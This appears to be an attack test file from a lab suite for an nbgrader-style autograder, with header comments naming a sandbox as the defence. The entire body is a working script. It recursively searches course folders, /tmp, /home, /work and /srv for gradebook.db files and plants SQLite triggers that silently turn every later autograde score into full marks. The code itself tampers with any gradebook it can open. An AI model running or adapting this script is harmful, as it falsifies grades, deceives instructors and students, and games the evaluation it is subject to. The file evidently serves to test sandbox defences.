# attack: add an SQLite trigger to every gradebook it finds (its own scratch gradebook first), so that the scores
#   autograde writes afterwards become full marks
# defended-by: sandbox
#   (with bubblewrap or as the separate user it finds none it can open; unprotected, the scratch gradebook's schema is
#   checked against the one nbgrader made before any score is read from it, and the course's gradebook is put back)
import glob
import os
import sqlite3

import lab_utils

# where course checkouts and scratch courses live (not the whole file system: the test must end in seconds)
_roots = [os.environ.get("DTLABS_COURSE_ROOT", ""), os.path.dirname(os.path.dirname(lab_utils.__file__)), os.getcwd(),
          "/tmp", "/home", "/work", "/srv"]
for _root in filter(None, _roots):
    for _db in glob.glob(os.path.join(_root, "**", "gradebook.db"), recursive=True):
        try:
            _con = sqlite3.connect(_db)
            for _event in ("INSERT", "UPDATE OF auto_score"):
                _con.execute(f"CREATE TRIGGER IF NOT EXISTS full_marks_{_event.split()[0].lower()} AFTER {_event} ON grade "
                             "BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells "
                             "WHERE grade_cells.id = NEW.cell_id) WHERE id = NEW.id; END")
            _con.commit()
            print("trigger in", _db)
        except sqlite3.Error as _exc:
            print("could not write", _db, _exc)
